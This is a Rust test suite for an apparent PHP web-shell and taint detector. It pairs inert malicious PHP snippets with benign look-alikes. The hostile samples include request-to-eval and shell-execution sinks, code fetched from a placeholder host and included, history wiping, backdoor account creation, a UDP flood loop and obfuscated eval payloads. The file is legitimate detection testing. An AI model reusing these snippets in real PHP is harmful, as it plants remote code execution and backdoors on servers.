//! Ways from the request to the sink that are not direct, each on an inert sample, beside what honest code does.

use super::tests::{hits, passes};

#[test]
fn output_that_a_handler_takes_is_followed() {
    hits(
        "TR-PHP-0102",
        "$e = ''; ob_start(function ($c, $d) { global $e; $e = $c; }); echo $_REQUEST['p']; ob_end_flush(); assert($e);",
    );
    passes("ob_start(function ($c) { return trim($c); }); echo $_GET['q']; ob_end_flush();");
}

#[test]
fn a_path_that_may_call_functions_runs_the_request() {
    let path = "$x = new DOMXPath($doc); $x->registerPHPFunctions(); $x->query($_GET['q']);";
    hits("TR-PHP-0102", path);
    hits(
        "TR-PHP-0102",
        "$c = new ReflectionClass('DOMXPath'); $i = $c->newInstance($d); $c->getMethod('registerPHPFunctions')->invoke($i);
         $c->getMethod('query')->getClosure($i)->__invoke($_REQUEST[1]);",
    );
    hits(
        "TR-PHP-0102",
        "$s = '<xsl:value-of select=\"php:function(\\'assert\\',string(.))\"/>'; $p = new XSLTProcessor();
         $p->registerPHPFunctions(); $p->importStyleSheet(DOMDocument::loadXML($s)); $p->transformToXML($d);",
    );
    passes("$x = new DOMXPath($doc); $x->query('//a[@b=\"' . $_GET['q'] . '\"]');");
    passes("$x->registerPhpFunctions('ucfirst'); $x->query(\"//a[php:functionString('ucfirst', @b)]\");");
}

#[test]
fn all_globals_may_be_set_at_once() {
    hits("TR-PHP-0203", "$GLOBALS = array('f' => pack('c*', 115, 121, 115, 116, 101, 109)); $GLOBALS['f']('x');");
}

#[test]
fn what_is_written_and_then_included_is_run() {
    for code in [
        "file_put_contents('cache.txt', $_POST['c']); include 'cache.txt';",
        "$f = tempnam('/tmp', 'x'); file_put_contents($f, $_POST['c']); require $f;",
        "$h = fopen('README', 'w'); fwrite($h, $_GET['content']); include './README';",
    ] {
        hits("TR-PHP-0104", code);
    }
    hits("TR-PHP-0108", "file_put_contents('a.inc', file_get_contents('http://192.0.2.1/a')); include 'a.inc';");
    passes("file_put_contents('cache.txt', date('c')); include 'cache.txt';");
}

#[test]
fn the_request_behind_an_opening_tag_is_code() {
    hits("TR-PHP-0105", "file_put_contents('a.inc', '<?php ' . $_REQUEST['code'] . ' ?>');");
    hits("TR-PHP-0105", "fwrite(fopen('c', 'w'), \"<?php eval({$_POST['c']});\");");
    passes("file_put_contents('config.php', \"<?php\\n\\$host = '\" . $_POST['host'] . \"';\");");
}

#[test]
fn a_command_that_another_shell_is_given_is_whole() {
    for code in [
        "$w = new COM('WScript.Shell'); $e = $w->exec('cmd.exe /c ' . $_POST['c']);",
        "system(\"sh -c '\" . $_GET['c'] . \"'\");",
        "exec('cd /tmp && ' . $_GET['c']);",
        "shell_exec('echo ' . $_POST['p'] . ' | sudo -S sh');",
        "exec('echo \"./' . $_GET['f'] . '\" | /bin/sh', $out);",
        "system(escapeshellcmd($_GET['c']));",
        "passthru(escapeshellarg($_POST['p']));",
        "$p = new perl(); $p->eval('system(\"' . $_GET['c'] . '\")');",
    ] {
        hits("TR-PHP-0101", code);
    }
    passes("system('/bin/ping -c 1 ' . escapeshellcmd($_GET['host']));");
    passes("exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']) . ' | sort');");
}

#[test]
fn variables_that_only_old_php_sets_reach_functions_of_the_file() {
    hits("TR-PHP-0101", "function run($cmd) { return shell_exec($cmd); } if (isset($_GET['cmd'])) { echo run($cmd); }");
    hits("TR-PHP-0103", "$_ = $POST['1']; $__ = $POST['2']; $_($__);");
    passes("function run($cmd) { return trim($cmd); } echo run($cmd);");
}

#[test]
fn the_servers_variables_as_a_whole_hold_headers() {
    hits("TR-PHP-0101", "$b = array_values($_SERVER); echo system($b[6]);");
    hits("TR-PHP-0102", "$a = array($_REQUEST['x'] => '3'); $b = array_keys($a)[0]; eval($b);");
    hits("TR-PHP-0102", "$a = array_map(null, array('1'), array($_REQUEST['x']))[0][1]; assert($a);");
    passes("foreach ($_SERVER as $k => $v) { echo \"$k=$v\"; }");
}

#[test]
fn statements_that_write_files_or_name_any_table_are_found() {
    hits("TR-PHP-0105", "$q = \"select '{$_POST['c']}' into dumpfile '/tmp/x';\"; mysql_query($q);");
    hits("TR-PHP-0307", "mysql_connect('localhost', 'u', 'p'); mysql_query('SELECT * FROM `' . $_GET['t'] . '`');");
    passes("mysql_connect('localhost', 'u', 'p'); mysql_query('SELECT * FROM t WHERE id = ' . (int) $_GET['id']);");
}

#[test]
fn objects_that_bring_code_are_found() {
    hits(
        "TR-PHP-0102",
        "class A { public $d = 'x'; function __destruct() { eval($this->d); } } unserialize($_GET['id']);",
    );
    passes("class A { public $d; function __destruct() { fclose($this->d); } } unserialize($_GET['id']);");
}

#[test]
fn accounts_traces_floods_and_first_looks_are_named() {
    hits("TR-PHP-0309", "exec(\"sudo useradd {$_POST['u']}\");");
    hits("TR-PHP-0309", "system('net user eve pass /add');");
    hits("TR-PHP-0310", "foreach (new COM('IIS://localhost/w3svc') as $o) { echo $o->Name; }");
    hits("TR-PHP-0311", "foreach (['rm -rf /root/.bash_history', 'unset HISTFILE'] as $c) { system($c); }");
    hits("TR-PHP-0312", "while (1) { $f = fsockopen('udp://' . $_GET['host'], rand(1, 65000)); fwrite($f, 'X'); }");
    hits("TR-PHP-0313", "passthru('id');");
    passes("exec('/usr/bin/uptime', $out); $user = exec('whoami');");
}

#[test]
fn a_comment_of_the_file_that_names_a_function_is_found() {
    hits(
        "TR-PHP-0109",
        "/** a-b-c */ class T {} $r = new ReflectionClass('T'); $s = $r->getDocComment();
         $f = substr($s, strpos($s, 'a'), 3); $f = $f . substr($s, 4, 2); $f('x');",
    );
}

#[test]
fn functions_made_of_text_that_run_their_argument_are_found() {
    hits("TR-PHP-0113", "$m->addServer('h', 1, true, 1, 0, -1, true, create_function('$a,$b', 'return assert($a);'));");
    hits(
        "TR-PHP-0105",
        "$t = $_POST['b']; $o = ''; for ($i = 0; $i < strlen($t); $i += 2) $o .= urldecode('%' . substr($t, $i, 2)); fwrite(fopen($_POST['a'], 'w'), $o);",
    );
}

#[test]
fn what_is_written_behind_an_exit_is_data() {
    for head in ["<?php exit(1); ?>", "<?php die(); ?>\\n", "<?php\\nexit ?>", "<?php __halt_compiler();"] {
        passes(&format!("file_put_contents('log.php', \"{head}\" . $_POST['line']);"));
    }
    for head in ["<?php if (0) exit; ?>", "<?php exit_not(); ?>", "<?php ", "<?php exit($x); ?>"] {
        hits(
            "TR-PHP-0105",
            &format!("file_put_contents($_POST['f'], \"{}\" . $_POST['line']);", head.replace('$', "\\$")),
        );
    }
}

#[test]
fn a_path_that_is_made_in_two_ways_keeps_what_both_have() {
    let path = "if ($_POST['n'] > 1) { $f = 'layouts/' . $_POST['n'] . '/style.css'; } else { $f = 'layouts/' . $_POST['n'] . '.css'; }";
    passes(&format!("{path} file_put_contents($f, $_POST['body']);"));
    let php = path.replace(".css", ".php");
    hits("TR-PHP-0105", &format!("{php} file_put_contents($f, $_POST['body']);"));
}

#[test]
fn an_upload_whose_ending_is_held_against_a_list_is_none_of_a_shell() {
    let upload = "$t = $_SERVER['DOCUMENT_ROOT'] . '/uploads/' . $_FILES['f']['name'];
        $p = pathinfo($_FILES['f']['name']);";
    passes(&format!(
        "{upload} if (in_array($p['extension'], array('jpg', 'png'))) {{ move_uploaded_file($_FILES['f']['tmp_name'], $t); }}"
    ));
    hits("TR-PHP-0106", &format!("{upload} move_uploaded_file($_FILES['f']['tmp_name'], $t);"));
}

#[test]
fn an_object_that_is_kept_under_a_name_is_no_callback() {
    passes("$this->getRegistry()->register('system', new System()); parent::register('exec');");
    hits("TR-PHP-0103", "$o = new ArrayObject($_GET); $o->uasort('system');");
}

#[test]
fn a_file_below_a_known_folder_is_no_other_host() {
    passes(
        "list($a, $b) = explode('/', $_POST['h']); $r = parse_ini_file('apps/' . $a . '/x.ini'); call_user_func($r['f'], $_POST['v']);",
    );
}

#[test]
fn a_placeholder_that_is_written_is_no_hidden_code() {
    // `<?php\n// nothing\nreturn false;\n`, as the framework's own tests write it; `<?php eval($x);` is something.
    passes("file_put_contents('/tmp/a.php', base64_decode('PD9waHAKLy8gbm90aGluZwpyZXR1cm4gZmFsc2U7Cg=='));");
    hits("TR-PHP-0306", "file_put_contents('/tmp/a.php', base64_decode('PD9waHAgZXZhbCgkeCk7'));");
}

#[test]
fn a_loop_that_gets_nowhere_does_not_hide_what_follows() {
    // Nothing that is known changes what these test: turned until the fuel is gone, nothing of what stands behind them would be seen.
    for looping in [
        "class A { public $stop = false; function a() { while (!$this->stop) { foreach ($this->b() as $x) { $this->c($x); } } } }
         $a = new A; $a->a();",
        "function a() { return false; } while (!a()) { usleep(9); }",
        "$on = true; do { $x = b($x); if (c($x)) { $y = 'a'; } else { $y = 'b'; } } while ($on);",
        "while (true) { while (true) { if (a()) { break; } $b = 'b'; } $b = 'c'; }",
    ] {
        let code = format!("{looping} system($_GET['c']);");
        hits("TR-PHP-0101", &code);
    }
}

#[test]
fn a_long_loop_is_turned_to_its_end() {
    let numbers: Vec<String> =
        "/* a comment that makes the text long enough for many turns of a loop */ system($_GET['c']);"
            .bytes()
            .map(|b| (b ^ 7).to_string())
            .collect();
    let code = format!(
        "$n = explode(',', '{}'); $o = ''; for ($i = 0; $i < count($n); $i++) {{ $o .= chr($n[$i] ^ 7); }} eval($o);",
        numbers.join(",")
    );
    hits("TR-PHP-0101", &code);
}
